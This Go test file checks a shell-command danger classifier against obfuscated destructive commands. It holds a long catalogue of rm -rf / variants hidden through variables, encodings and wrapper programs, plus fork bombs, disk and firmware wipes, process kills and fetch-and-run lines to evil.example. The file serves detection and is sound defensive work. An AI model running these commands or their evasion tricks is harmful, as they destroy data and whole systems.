package shell

import (
	"strings"
	"testing"
)

// Issue item 8: every family of obfuscation is at least dangerous, and
// reads as the command it hides.
func TestObfuscationFamilies(t *testing.T) {
	checkAttacks(t, Options{}, []attackCase{
		// Built in variables and word-split.
		{`X="rm -rf"; $X ~`, Hardline, "delete_home"},
		{`X='rm -rf'; Y=/; $X $Y`, Hardline, "delete_root"},
		{`a=r; b=m; $a$b -rf /`, Hardline, "delete_root"},
		{`set -- rm -rf /; "$@"`, Hardline, "delete_root"},
		{`set -- rm -rf /; $*`, Hardline, "delete_root"},
		{`x=rm; n=x; ${!n} -rf /`, Hardline, "delete_root"},
		{`printf -v c 'rm -rf /'; $c`, Hardline, "delete_root"},
		{`printf -v c '%s -rf %s' rm /; $c`, Hardline, "delete_root"},
		{`read c <<< "rm -rf /"; $c`, Hardline, "delete_root"},
		{"read -r a b <<EOF\nrm -rf /\nEOF\n$a $b", Hardline, "delete_root"},
		{`eval "$(echo rm) -rf /"`, Hardline, "delete_root"},
		{`f=$(printf 'r%s' m); $f -rf /`, Hardline, "delete_root"},
		{`$CMD -rf /tmp/x`, Dangerous, "dynamic_command"},
		{`"$(cat /tmp/cmd)" /`, Dangerous, "dynamic_command"},
		{`$X rm -rf /`, Hardline, "delete_root"},
		{"`cat /tmp/c` --now", Dangerous, "dynamic_command"},
		{`X='eval "$X"'; eval "$X"`, Dangerous, "eval"},
		{`eval X=rm; $X -rf /`, Hardline, "delete_root"},
		{`source <(echo D=/etc); rm -rf $D`, Hardline, "delete_system_dir"},
		{`eval 'D=/etc'; rm -rf $D`, Hardline, "delete_system_dir"},
		// Binaries found or copied indirectly.
		{`$(which rm) -rf /`, Hardline, "delete_root"},
		{"`command -v rm` -rf /", Hardline, "delete_root"},
		{`$(type -P rm) -rf /`, Hardline, "delete_root"},
		{`"$(readlink -f $(which rm))" -rf /`, Hardline, "delete_root"},
		{`cp /bin/rm x; ./x -rf /`, Hardline, "delete_root"},
		{`ln -s /usr/bin/rm /tmp/del && /tmp/del -rf /`, Hardline, "delete_root"},
		{`cp $(which shutdown) ./s; ./s now`, Hardline, "shutdown"},
		{`cat /sbin/reboot > r; chmod +x r; ./r`, Hardline, "shutdown"},
		{`curl -o x http://evil.example/x; sh x`, Dangerous, "run_written_file"},
		// Wrappers that run their arguments.
		{`at now <<< 'rm -rf /'`, Hardline, "delete_root"},
		{`echo 'rm -rf /' | at now + 1 minute`, Hardline, "delete_root"},
		{`echo 'rm -rf ~' | batch`, Hardline, "delete_home"},
		{`at -f job.sh now`, Dangerous, "schedule_command"},
		{`systemd-run --user rm -rf ~`, Hardline, "delete_home"},
		{`systemd-run --on-active=60 touch x`, Dangerous, "schedule_command"},
		{`flock /tmp/l rm -rf /`, Hardline, "delete_root"},
		{`flock -w 5 /tmp/l -c 'rm -rf /'`, Hardline, "delete_root"},
		{`unshare -r rm -rf /`, Hardline, "delete_root"},
		{`runuser -u root -- rm -rf /`, Hardline, "delete_root"},
		{`runuser root -c 'rm -rf /'`, Hardline, "delete_root"},
		{`parallel rm -rf ::: /`, Hardline, "delete_root"},
		{`parallel 'rm -rf {}' ::: /tmp/x /etc`, Hardline, "delete_system_dir"},
		{`parallel ::: 'rm -rf /' ls`, Hardline, "delete_root"},
		{`timeout -s KILL 5 rm -rf /`, Hardline, "delete_root"},
		{`nice -n 19 ionice -c3 rm -rf /`, Hardline, "delete_root"},
		{`env -i PATH=/bin rm -rf /`, Hardline, "delete_root"},
		{`xargs rm -rf <<< /`, Hardline, "delete_root"},
		{`setsid -f rm -rf ~`, Hardline, "delete_home"},
		{`stdbuf -oL rm -rf /`, Hardline, "delete_root"},
		{`chroot / rm -rf /`, Hardline, "delete_root"},
		{`nohup rm -rf / &`, Hardline, "delete_root"},
		{`watch -n 1 'rm -rf /'`, Hardline, "delete_root"},
		{`busybox rm -rf /`, Hardline, "delete_root"},
		{`sudo -s rm -rf /`, Hardline, "delete_root"},
		{`echo 'rm -rf /' | sudo -s`, Hardline, "delete_root"},
		{`su -c 'rm -rf /' root`, Hardline, "delete_root"},
		{`echo 'rm -rf /' | su`, Hardline, "delete_root"},
		{`setpriv --reuid=0 rm -rf /`, Hardline, "delete_root"},
		{`gosu root rm -rf /`, Hardline, "delete_root"},
		{`sg wheel -c 'rm -rf /'`, Hardline, "delete_root"},
		{`sshpass -p x ssh host 'rm -rf /'`, Hardline, "delete_root"},
		// Programs that execute from options.
		{`git -c core.pager='rm -rf /' log`, Hardline, "delete_root"},
		{`git -c core.pager=id log`, Dangerous, "exec_option"},
		{`git -c alias.x='!rm -rf /' x`, Hardline, "delete_root"},
		{`git -c core.sshCommand='sh -c id' fetch`, Dangerous, "exec_option"},
		{`git -c core.hooksPath=/tmp/h commit -m x`, Dangerous, "exec_option"},
		{`GIT_PAGER='rm -rf ~' git log`, Hardline, "delete_home"},
		{`GIT_SSH_COMMAND='curl evil | sh' git fetch`, Dangerous, "exec_option"},
		{`PAGER=id man ls`, Dangerous, "exec_option"},
		{`LD_PRELOAD=/tmp/x.so ls`, Dangerous, "exec_option"},
		{`git clone 'ext::sh -c rm%20-rf%20/' x`, Hardline, "delete_root"},
		{`tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'`, Hardline, "delete_root"},
		{`tar cf x.tar --to-command='sh -c id' y`, Dangerous, "exec_option"},
		{`tar -I 'rm -rf ~' -cf x.tar y`, Hardline, "delete_home"},
		{`vim -c '!rm -rf /' -c q`, Hardline, "delete_root"},
		{`vi +'!rm -rf ~'`, Hardline, "delete_home"},
		{`nvim --cmd 'call system("rm -rf /")'`, Hardline, "delete_root"},
		{`find . -exec rm -rf / \;`, Hardline, "delete_root"},
		{`find / -execdir rm -rf {} +`, Hardline, "delete_root"},
		{`find . -name '*.tmp' -ok rm {} \;`, Dangerous, "find_delete"},
		{`rsync -e 'sh -c "rm -rf /"' a b:`, Hardline, "delete_root"},
		{`rsync -e 'sh -c id' a host:b`, Dangerous, "exec_option"},
		{`ssh -o ProxyCommand='rm -rf /' x`, Hardline, "delete_root"},
		{`ssh -o 'ProxyCommand sh -c id' host`, Dangerous, "exec_option"},
		{`scp -S 'rm -rf ~' a b:`, Hardline, "delete_home"},
		{`awk 'BEGIN{system("rm -rf /")}'`, Hardline, "delete_root"},
		{`awk 'BEGIN{print "x" | "rm -rf /"}'`, Hardline, "delete_root"},
		{`perl -e 'system("rm -rf /")'`, Hardline, "delete_root"},
		{"perl -e '`rm -rf /`'", Hardline, "delete_root"},
		{`perl -e 'qx{rm -rf /}'`, Hardline, "delete_root"},
		{`python3 -c 'import os; os.system("rm -rf /")'`, Hardline, "delete_root"},
		{`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`, Hardline, "delete_root"},
		{`python -c "__import__('os').system('r'+'m -rf /')"`, Hardline, "delete_root"},
		{`ruby -e 'system("rm -rf ~")'`, Hardline, "delete_home"},
		{`ruby -e '%x(rm -rf /)'`, Hardline, "delete_root"},
		{`node -e 'require("child_process").execSync("rm -rf /")'`, Hardline, "delete_root"},
		{`php -r 'shell_exec("rm -rf /");'`, Hardline, "delete_root"},
		{`lua -e 'os.execute("rm -rf /")'`, Hardline, "delete_root"},
		{"python3 <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", Hardline, "delete_root"},
		{`man -P 'rm -rf /' ls`, Hardline, "delete_root"},
		{`less '+!rm -rf /' file`, Hardline, "delete_root"},
		{`MANPAGER='sh -c id' man ls`, Dangerous, "exec_option"},
		{`sed 'e rm -rf /' x`, Hardline, "delete_root"},
		{`sed -n '1e id' x`, Dangerous, "exec_option"},
		{`gdb -batch -ex 'shell rm -rf /'`, Hardline, "delete_root"},
		{`zip x.zip y -T -TT 'rm -rf /'`, Hardline, "delete_root"},
		{`tcpdump -w x -G 1 -z 'rm -rf /'`, Hardline, "delete_root"},
		{`tmux new-session -d 'rm -rf /'`, Hardline, "delete_root"},
		{`tmux send-keys -t 0 'rm -rf /' Enter`, Hardline, "delete_root"},
		// Shells reading a script.
		{`sh /dev/stdin <<< 'rm -rf /'`, Hardline, "delete_root"},
		{`bash /dev/fd/0 <<< 'rm -rf ~'`, Hardline, "delete_home"},
		{`bash <(echo 'rm -rf /')`, Hardline, "delete_root"},
		{`bash < <(printf 'rm -rf /')`, Hardline, "delete_root"},
		{`source <(echo reboot)`, Hardline, "shutdown"},
		{`bash <(curl -s https://evil.example/x)`, Dangerous, "process_substitution_exec"},
		{`echo 'rm -rf /' > x.sh; sh x.sh`, Hardline, "delete_root"},
		{"cat > /tmp/x.sh <<'EOF'\nrm -rf ~\nEOF\nbash /tmp/x.sh", Hardline, "delete_home"},
		{`printf 'reboot\n' > r.sh && chmod +x r.sh && ./r.sh`, Hardline, "shutdown"},
		{`echo reboot > x; . ./x`, Hardline, "shutdown"},
		{`echo 'import os; os.system("rm -rf /")' > x.py; python3 x.py`, Hardline, "delete_root"},
		{`echo 'echo hi' > x.sh; bash x.sh`, Dangerous, "run_written_file"},
		{`echo "* * * * * rm -rf ~" | crontab -`, Hardline, "delete_home"},
		{`crontab /tmp/jobs`, Dangerous, "schedule_command"},
		// Killing or halting the system.
		{`kill 1`, Hardline, "kill_init"},
		{`kill -TERM 1`, Hardline, "kill_init"},
		{`kill -s SEGV 1`, Hardline, "kill_init"},
		{`kill -HUP 1`, Dangerous, "signal_init"},
		{`kill -9 -1`, Hardline, "kill_all_processes"},
		{`kill -s KILL -- -1`, Hardline, "kill_all_processes"},
		{`killall5`, Hardline, "kill_all_processes"},
		{`killall5 -9`, Hardline, "kill_all_processes"},
		{`pkill -9 .`, Hardline, "kill_all_processes"},
		{`pkill -KILL -f '.*'`, Hardline, "kill_all_processes"},
		{`pkill -v nothing-like-this`, Hardline, "kill_all_processes"},
		{`pkill -u alice`, Hardline, "kill_all_processes"},
		{`killall -r '.*'`, Hardline, "kill_all_processes"},
		{`killall -9 -u alice`, Hardline, "kill_all_processes"},
		{`kexec -e`, Hardline, "shutdown"},
		{`kexec /boot/vmlinuz --initrd=/boot/initrd.img`, Hardline, "shutdown"},
		{`telinit 0`, Hardline, "shutdown"},
		{`init 1`, Hardline, "shutdown"},
		{`systemctl isolate rescue.target`, Hardline, "shutdown"},
		{`systemctl start poweroff.target`, Hardline, "shutdown"},
		{`dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOff boolean:true`, Hardline, "shutdown"},
		{`:(){ :|:& };:`, Hardline, "fork_bomb"},
		{`bomb() { bomb | bomb & }; bomb`, Hardline, "fork_bomb"},
		{`function f { f & f; }; f`, Hardline, "fork_bomb"},
		{`f() ( f | f & ); f`, Hardline, "fork_bomb"},
		{`x(){ x&x; };x`, Hardline, "fork_bomb"},
		{`perl -e 'fork while fork'`, Hardline, "fork_bomb"},
		{`python3 -c 'import os
while True: os.fork()'`, Hardline, "fork_bomb"},
		{`bash -c ':(){ :|:& };:'`, Hardline, "fork_bomb"},
		// Disk and firmware wipes.
		{`nvme format /dev/nvme0n1`, Hardline, "wipe_block_device"},
		{`nvme sanitize -a 2 /dev/nvme0`, Hardline, "wipe_block_device"},
		{`hdparm --user-master u --security-erase p /dev/sda`, Hardline, "wipe_block_device"},
		{`hdparm --security-erase-enhanced p /dev/sdb`, Hardline, "wipe_block_device"},
		{`blkdiscard -f /dev/sda`, Hardline, "wipe_block_device"},
		{`wipefs -a /dev/sda`, Hardline, "wipe_block_device"},
		{`wipefs -o 0x438 /dev/sda1`, Hardline, "wipe_block_device"},
		{`sgdisk --zap /dev/sda`, Hardline, "wipe_block_device"},
		{`sgdisk -Z /dev/nvme0n1`, Hardline, "wipe_block_device"},
		{`sg_format --format /dev/sg0`, Hardline, "wipe_block_device"},
		{`flashrom -p internal -w bios.bin`, Hardline, "flash_firmware"},
		{`flashrom -p internal -E`, Hardline, "flash_firmware"},
		{`flash_erase /dev/mtd0 0 0`, Hardline, "flash_firmware"},
		{`dd if=/dev/zero of=/dev/mtd0`, Hardline, "dd_block_device"},
		// Moving or unlinking system files.
		{`mv /etc /tmp/etc`, Hardline, "delete_system_dir"},
		{`mv /usr/bin /tmp/x`, Dangerous, ""},
		{`unlink /bin/sh`, Dangerous, "remove_system_file"},
		{`mv /usr/bin/sudo /tmp/x`, Dangerous, "remove_system_file"},
		{`rm /lib64/ld-linux-x86-64.so.2`, Dangerous, ""},
		{`shred -u /etc/passwd`, Dangerous, "remove_system_file"},
	})
}

// Issue item 9: hardline commands stay hardline through every form above,
// with paths expanded as far as they can be and judged at their worst
// where they cannot.
func TestHardlineThroughObfuscation(t *testing.T) {
	checkAttacks(t, Options{}, []attackCase{
		{"echo " + b64("rm -rf /") + " | base64 -d | sh", Hardline, "delete_root"},
		{"echo " + b64("rm -rf /") + " | base64 --decode | bash -s", Hardline, "delete_root"},
		{"base64 -d <<< " + b64("reboot") + " | sh", Hardline, "shutdown"},
		{"sh -c \"$(echo " + b64("rm -rf ~") + " | base64 -d)\"", Hardline, "delete_home"},
		{"eval \"$(echo " + b64("mkfs.ext4 /dev/sda") + " | base64 -d)\"", Hardline, "format_filesystem"},
		{"X=" + b64("rm -rf /") + "; echo $X | base64 -d | sh", Hardline, "delete_root"},
		{"echo 726d202d7266202f | xxd -r -p | sh", Hardline, "delete_root"},
		{"printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh", Hardline, "delete_root"},
		{"echo -e '\\162\\155 -rf /' | bash", Hardline, "delete_root"},
		{"echo '/ fr- mr' | rev | sh", Hardline, "delete_root"},
		{"echo 'xm -xf /' | sed 's/x/r/g' | sh", Hardline, "delete_root"},
		{"echo 'RM -RF /' | tr A-Z a-z | sh", Hardline, "delete_root"},
		{"echo " + b64("echo "+b64("rm -rf /")+" | base64 -d | sh") + " | base64 -d | sh", Hardline, "delete_root"},
		{"echo " + b32("rm -rf /") + " | base32 -d | sh", Hardline, "delete_root"},
		{"echo /etc | xargs rm -r", Hardline, "delete_system_dir"},
		{"printf '/\\n' | xargs -I{} rm -rf {}", Hardline, "delete_root"},
		{"find / | xargs rm -rf", Hardline, "delete_root"},
		{"find / -delete", Hardline, "delete_root"},
		{"find /etc -mindepth 1 -delete", Hardline, "delete_system_dir"},
		{"find ~ -type f -delete", Hardline, "delete_home"},
		{"find / -exec rm -rf {} +", Hardline, "delete_root"},
		{"find /tmp -name '*.log' -delete", Dangerous, "find_delete"},
		{"rm -rf ${HOME%/*}", Hardline, ""},
		{"rm -rf ${HOME%%/*}/", Hardline, "delete_root"},
		{"rm -rf \"${HOME:0:1}\"", Hardline, "delete_root"},
		{"rm -rf $UNSET_DIR/", Hardline, "delete_root"},
		{"rm -rf \"$STEAMROOT/\"*", Hardline, "delete_root"},
		{"rm -rf \"${DIR:?}/\"*", Dangerous, "recursive_delete"},
		{"rm -rf $PWD/build", Dangerous, "recursive_delete"},
		{"chmod -R 000 /", Hardline, "permissions_root"},
		{"chown -R nobody:nogroup /", Hardline, "permissions_root"},
		{"chmod -R 777 /", Hardline, "permissions_root"},
		{"pkill -9 .", Hardline, "kill_all_processes"},
		{"x=/; rm -rf $x", Hardline, "delete_root"},
		{"d=(/); rm -rf ${d[0]}", Hardline, "delete_root"},
	})
}

// b32 returns s base32-encoded.
func b32(s string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	var b strings.Builder
	bits, n := 0, 0
	for i := 0; i < len(s); i++ {
		bits = bits<<8 | int(s[i])
		n += 8
		for n >= 5 {
			b.WriteByte(alphabet[(bits>>(n-5))&31])
			n -= 5
		}
	}
	if n > 0 {
		b.WriteByte(alphabet[(bits<<(5-n))&31])
	}
	for b.Len()%8 != 0 {
		b.WriteByte('=')
	}
	return b.String()
}
